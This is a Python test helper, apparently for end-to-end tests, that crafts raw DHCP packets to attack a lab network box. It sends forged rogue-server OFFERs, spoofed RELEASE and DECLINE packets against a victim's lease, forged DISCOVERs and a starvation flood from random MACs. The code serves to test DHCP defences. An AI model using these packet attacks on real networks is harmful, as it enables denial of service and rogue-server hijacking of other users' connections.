"""A small DHCP attacker for the e2e tests: builds Ethernet/IPv4/UDP/BOOTP
frames by hand and sends them on a raw AF_PACKET socket. Run it inside a
bridged device's namespace:

    python3 dhcp_attacker.py IFACE offers N                 forged OFFER burst
    python3 dhcp_attacker.py IFACE release VMAC VIP         forged RELEASE + DECLINE for a victim
    python3 dhcp_attacker.py IFACE forged-discover N        DISCOVERs whose chaddr is not ours; prints OFFERs seen
    python3 dhcp_attacker.py IFACE flood N                  DISCOVERs from N random MACs; prints rate and OFFERs seen

Prints one JSON line with what it did and saw.
"""

import json
import os
import socket
import struct
import sys
import time

BOX_IP = "10.77.1.1"
BCAST = b"\xff" * 6


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def frame(src_mac, dst_mac, src_ip, dst_ip, sport, dport, payload):
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                      socket.inet_aton(src_ip), socket.inet_aton(dst_ip))
    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
    return dst_mac + src_mac + b"\x08\x00" + hdr + udp


def bootp(op, xid, chaddr, msg_type, ciaddr="0.0.0.0", yiaddr="0.0.0.0", opts=b"", flags=0x8000):
    body = struct.pack("!BBBBIHH4s4s4s4s", op, 1, 6, 0, xid, 0, flags, socket.inet_aton(ciaddr),
                       socket.inet_aton(yiaddr), b"\0" * 4, b"\0" * 4)
    body += chaddr + b"\0" * 10 + b"\0" * 192 + b"\x63\x82\x53\x63"
    body += bytes([53, 1, msg_type]) + opts + b"\xff"
    return body + b"\0" * max(0, 300 - len(body))


def opt_ip(code, ip):
    return bytes([code, 4]) + socket.inet_aton(ip)


def mac_bytes(text):
    return bytes(int(x, 16) for x in text.split(":"))


def our_mac(ifc):
    return mac_bytes(open(f"/sys/class/net/{ifc}/address").read().strip())


def sock(ifc):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    s.bind((ifc, 0))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    return s


def offers_seen(s, xids, seconds):
    """DHCPOFFERs (from port 67) whose xid is in `xids`, seen for `seconds`."""
    seen = 0
    deadline = time.monotonic() + seconds
    s.settimeout(0.2)
    while time.monotonic() < deadline:
        try:
            f = s.recv(2048)
        except socket.timeout:
            continue
        if len(f) < 14 + 20 + 8 + 240 or f[23] != 17:
            continue
        ihl = (f[14] & 0xF) * 4
        udp = 14 + ihl
        sport, dport = struct.unpack("!HH", f[udp:udp + 4])
        if sport != 67 or dport != 68:
            continue
        b = f[udp + 8:]
        xid = struct.unpack("!I", b[4:8])[0]
        if b[0] == 2 and xid in xids and b"\x35\x01\x02" in b[240:]:
            seen += 1
    return seen


def main():
    ifc, mode = sys.argv[1], sys.argv[2]
    me = our_mac(ifc)
    s = sock(ifc)
    out = {"mode": mode}
    if mode == "offers":
        # Forged DHCPOFFERs, as a rogue device would send them: to everyone
        # (random chaddr, broadcast) naming a server that is not the box.
        n = int(sys.argv[3])
        for i in range(n):
            ch = bytes([0x02, 0x99]) + os.urandom(4)
            payload = bootp(2, int.from_bytes(os.urandom(4), "big"), ch, 2, yiaddr="10.77.1.150",
                            opts=opt_ip(54, "10.77.1.66") + opt_ip(1, "255.255.255.0") + bytes([51, 4, 0, 0, 14, 16]))
            s.send(frame(me, BCAST, "10.77.1.66", "255.255.255.255", 67, 68, payload))
        out["sent"] = n
    elif mode == "release":
        vmac, vip = mac_bytes(sys.argv[3]), sys.argv[4]
        rel = bootp(1, 0x1234, vmac, 7, ciaddr=vip, opts=opt_ip(54, BOX_IP), flags=0)
        dec = bootp(1, 0x1235, vmac, 4, opts=opt_ip(50, vip) + opt_ip(54, BOX_IP), flags=0)
        for _ in range(3):
            s.send(frame(me, mac_bytes("ff:ff:ff:ff:ff:ff"), vip, BOX_IP, 68, 67, rel))
            s.send(frame(me, BCAST, "0.0.0.0", "255.255.255.255", 68, 67, dec))
            time.sleep(0.2)
        out["sent"] = 6
    elif mode == "forged-discover":
        n = int(sys.argv[3])
        xids = set()
        for i in range(n):
            xid = 0x5A000000 + i
            xids.add(xid)
            ch = bytes([0x02, 0x77]) + os.urandom(4)
            s.send(frame(me, BCAST, "0.0.0.0", "255.255.255.255", 68, 67, bootp(1, xid, ch, 1)))
            time.sleep(0.05)
        out["sent"] = n
        out["offers"] = offers_seen(s, xids, 3)
    elif mode == "flood":
        n = int(sys.argv[3])
        frames, xids = [], set()
        for i in range(n):
            m = bytes([0x02, 0x55]) + os.urandom(4)
            xid = 0x66000000 + i
            xids.add(xid)
            frames.append(frame(m, BCAST, "0.0.0.0", "255.255.255.255", 68, 67, bootp(1, xid, m, 1)))
        t = time.monotonic()
        sent = 0
        for f in frames:
            try:
                s.send(f)
                sent += 1
            except BlockingIOError:
                pass
        dt = time.monotonic() - t
        out.update(sent=sent, seconds=round(dt, 3), pps=int(sent / dt) if dt else sent)
        out["offers"] = offers_seen(s, xids, 3)
    else:
        raise SystemExit(f"unknown mode {mode}")
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main()
